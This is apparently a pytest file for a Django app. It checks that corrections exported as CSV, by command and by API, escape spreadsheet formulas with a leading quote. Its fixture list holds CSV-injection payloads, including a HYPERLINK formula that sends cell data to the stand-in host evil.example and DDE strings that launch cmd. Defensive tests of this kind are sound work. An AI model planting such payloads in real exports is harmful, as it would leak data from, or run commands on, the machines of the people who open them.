"""Exports are data, not formulas: a mention that starts like a spreadsheet formula is exported
with a leading single quote (OWASP's CSV injection advice), by the command and by the API."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.management import call_command

from listening.csvsafe import spreadsheet_safe
from listening.services.corrections import correction_create
from tests import factories

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Acme refund")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
]


@pytest.fixture
def corrected(world):
    for text in [*FORMULAS, "Acme - still waiting = bad"]:
        mention = factories.MentionFactory(source=world.acme_source, brand=world.acme_brand, text=text)
        correction_create(mention=mention, field="complaint", value="complaint", user=None)


def exported_texts(content: str) -> list[str]:
    return [row["text"] for row in csv.DictReader(io.StringIO(content, newline=""))]


def test_the_export_command_writes_formulas_as_text(world, corrected):
    out = io.StringIO()
    call_command("export_corrections", "--tenant", "acme", stdout=out, stderr=io.StringIO())
    texts = exported_texts(out.getvalue())
    assert sorted(texts) == sorted(["'" + t for t in FORMULAS] + ["Acme - still waiting = bad"])


def test_the_export_endpoint_writes_formulas_as_text(world, corrected, api_client_for):
    response = api_client_for(world.agency_user).get("/api/v1/tenants/acme/corrections/export/")
    assert response.status_code == 200
    texts = exported_texts(response.content.decode())
    assert sorted(texts) == sorted(["'" + t for t in FORMULAS] + ["Acme - still waiting = bad"])
    assert not any(t.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")) for t in texts)


@pytest.mark.parametrize("value", ["Acme", "", "a=b", "email@acme.example", "5 - 3"])
def test_an_ordinary_cell_is_left_as_it_is(value):
    assert spreadsheet_safe(value) == value
